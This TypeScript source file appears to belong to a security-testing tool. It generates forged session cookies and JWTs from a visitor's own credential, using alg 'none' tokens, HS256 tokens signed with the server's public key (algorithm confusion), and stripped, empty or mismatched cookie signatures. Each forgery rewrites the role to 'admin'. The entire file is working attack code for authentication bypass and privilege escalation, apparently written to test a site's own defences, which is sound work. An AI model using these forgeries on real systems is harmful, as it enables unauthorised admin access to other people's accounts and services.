/** What somebody makes of an own credential without any secret: the signature left out, or made by what is public. */
import { createHmac, createPublicKey } from 'node:crypto'
import { decodeJwt, encodeUnsignedJwt, percentDecoded } from '../../../shared/visitor/credential.ts'
import type { Keys } from './public-keys.ts'

interface Cookie {
  readonly name: string
  readonly value: string
}

interface Attempt {
  readonly how: string
  /** The Cookie header. */
  readonly header: string
}

/** By the look of the cookies alone: whoever attacks sees no more. Roles that can be read become admin. */
export function unsignedAttempts(cookies: readonly Cookie[], keys: Keys): Attempt[] {
  return cookies.flatMap(({ name, value }) => {
    const beside = cookies.find((each) => each.name === `${name}.sig`)
    if (beside !== undefined) return withoutCookieBeside({ name, value }, beside)
    if (name.endsWith('.sig')) return []
    const token = decodeJwt(value)
    return token ? tokens(name, token, keys) : withoutSignatureInside(name, value)
  })
}

type Token = NonNullable<ReturnType<typeof decodeJwt>>

/** RFC 8725 2.1: `none`, and the public key as if it were the secret of an HMAC. */
function tokens(name: string, { header, claims }: Token, { keys = [] }: Keys): Attempt[] {
  const risen = { ...claims, role: 'admin' }
  const none = ['none', 'None', 'NONE'].map((alg) => ({
    how: `alg ${alg}, and no signature`,
    header: `${name}=${encodeUnsignedJwt({ ...header, alg }, risen)}.`,
  }))
  const confused = keys.flatMap((jwk) => {
    const key = createPublicKey({ key: jwk, format: 'jwk' })
    const pem = key.export({ type: 'spki', format: 'pem' })
    const secrets = { 'in PEM': pem, 'in DER': key.export({ type: 'spki', format: 'der' }) }
    return Object.entries(secrets).map(([form, secret]) => {
      const input = encodeUnsignedJwt({ ...header, alg: 'HS256' }, risen)
      const signature = createHmac('sha256', secret).update(input).digest('base64url')
      return {
        how: `HS256 by the public key ${form}`,
        header: `${name}=${input}.${signature}`,
      }
    })
  })
  return [...none, ...confused]
}

function withoutCookieBeside(
  { name, value }: Cookie,
  { name: sig, value: old }: Cookie,
): Attempt[] {
  const text = Buffer.from(percentDecoded(value), 'base64').toString()
  const risen = Buffer.from(text.replace('"member"', '"admin"')).toString('base64')
  return [
    { how: 'no signature', header: `${name}=${risen}` },
    { how: 'an empty signature', header: `${name}=${risen}; ${sig}=` },
    // A role that can't be read (the state is encrypted) stays: then this would be the own cookie, and no forgery.
    ...(risen === percentDecoded(value)
      ? []
      : [{ how: 'the signature of another value', header: `${name}=${risen}; ${sig}=${old}` }]),
  ]
}

function withoutSignatureInside(name: string, value: string): Attempt[] {
  const bare = percentDecoded(value).replace(/\.[^.]*$/, '')
  return [
    { how: 'no signature', header: `${name}=${bare}` },
    { how: 'an empty signature', header: `${name}=${bare}.` },
  ]
}
